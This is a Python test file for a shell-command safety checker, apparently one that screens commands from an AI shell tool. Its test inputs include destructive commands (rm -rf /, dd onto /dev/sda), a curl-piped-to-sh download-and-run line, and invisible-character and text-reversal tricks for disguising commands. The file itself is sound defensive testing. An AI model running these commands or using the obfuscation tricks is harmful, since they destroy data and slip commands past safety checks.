"""What cannot be seen, and what cannot be parsed."""

from __future__ import annotations

import pytest

from cmdai_shell.core import Risk
from cmdai_shell.safety import assess, lexical


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200f"])
def test_text_that_reads_in_another_order_is_dangerous(char):
    assert assess(f"ls {char}gpj.exe").risk is Risk.DANGEROUS


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x9b", "\u200b", "\ufeff", "\ud800", "\x7f"])
def test_invisible_characters_are_told_and_hide_nothing(char):
    assert assess(f"ls {char}").risk is Risk.CAUTION
    assert assess(f"r{char}m -rf /{char}").risk is Risk.CRITICAL


def test_our_own_marks_cannot_be_forged():
    assert lexical.cleaned("a\ue000b\ue101c") == "abc"


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf / 'x", "ls; rm -rf ~ )", "if rm -rf /", "((( rm -rf $HOME", "a 'b\nrm -rf /",
        "sudo rm -rf / (", "dd if=/dev/zero of=/dev/sda )", "curl https://x.example | sh )",
        "sh -c 'rm -rf /' )", "x=1 rm -rf / )",
    ],
)  # fmt: skip
def test_a_syntax_error_hides_nothing(line):
    assert assess(line).risk is Risk.CRITICAL


def test_calls_of_a_broken_line():
    calls = list(lexical.calls("echo 'a | sudo tee x > /etc/y; then $HOME"))
    assert [call.program for call in calls] == ["echo", "sudo", "\ue000"]
    assert calls[1].fed_by == calls[:1] or calls[1].fed_by == (calls[0],)
    assert [redirect.target.text for redirect in calls[1].redirects] == ["/etc/y"]


def test_a_word_continued_on_the_next_line_is_one_word():
    assert assess("r\\\nm -rf /").risk is Risk.CRITICAL
    assert assess("r\\\nm -rf / # all").risk is Risk.CRITICAL
    assert assess("ls # all\\\nrm -rf /").risk is Risk.CRITICAL
    assert assess("ls \\\n  -la").risk is Risk.SAFE
